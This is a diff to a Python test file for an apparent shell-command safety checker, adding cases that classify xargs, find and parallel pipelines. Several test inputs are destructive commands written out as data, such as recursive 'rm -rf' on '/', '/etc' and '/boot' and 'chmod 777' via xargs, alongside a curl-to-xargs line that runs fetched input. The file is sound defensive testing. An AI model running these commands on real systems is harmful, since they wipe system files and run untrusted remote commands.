@@ -189,6 +189,21 @@ def test_characters_that_crash_tree_sitter_bash_are_neutralised() -> None:
         ("curl -s https://x.example/c | xargs -I% %", "opaque-command"),  # input names the command
         ("cat cmds | xargs -I{} bash -c 'run {}'", None),  # input becomes shell code
         ("vim /etc/hosts", "opaque-command"),  # :! runs commands the bastion never sees
+        # Arguments read at run time: the command is reported with open_args.
+        ("ls / | xargs rm -rf", "input-driven-destruction"),
+        ("cat list.txt | xargs -n1 chmod 777", "input-driven-destruction"),
+        ("xargs rm -rf < list.txt", "input-driven-destruction"),
+        ("ls | parallel -j4 rm -rf", "input-driven-destruction"),
+        ("cat jobs.txt | parallel", "opaque-command"),  # the input lines are the commands
+        # find's starting points stand in for what it prints, as for -exec {}.
+        ("find / -maxdepth 1 | xargs rm -rf", "rm-recursive-system-path"),
+        ("find /etc -type f 2>/dev/null | xargs -I{} rm -rf {}", "rm-recursive-system-path"),
+        ("find /tmp/x /etc -exec rm -rf {} +", "rm-recursive-system-path"),  # every start
+        ("find . -name '*.log' -exec gzip {} ';' -exec rm -rf / ';'", "rm-recursive-system-path"),
+        # parallel: `:::` items are the arguments; with no command they are command lines.
+        ("parallel rm -rf ::: /etc /usr", "rm-recursive-system-path"),
+        ("parallel rm -rf {} ::: build /boot", "rm-recursive-system-path"),
+        ("parallel ::: 'rm -rf /' 'echo hi'", "rm-recursive-system-path"),
     ],
 )
 def test_xargs_input_and_editors(line: str, rule: str | None) -> None:
@@ -202,7 +217,12 @@ def test_xargs_input_and_editors(line: str, rule: str | None) -> None:
     "line",
     [
         "find . -name '*.o' | xargs rm -f",
+        "find . -name '*.o' -print0 | xargs -0 rm -f",
         "find src -name '*.py' | xargs grep -n TODO",
+        "git ls-files | xargs wc -l",
+        "echo build dist | xargs rm -rf",
+        "parallel gzip ::: a.log b.log",
+        "ls *.log | parallel gzip",
         "echo a b | xargs",
     ],
 )
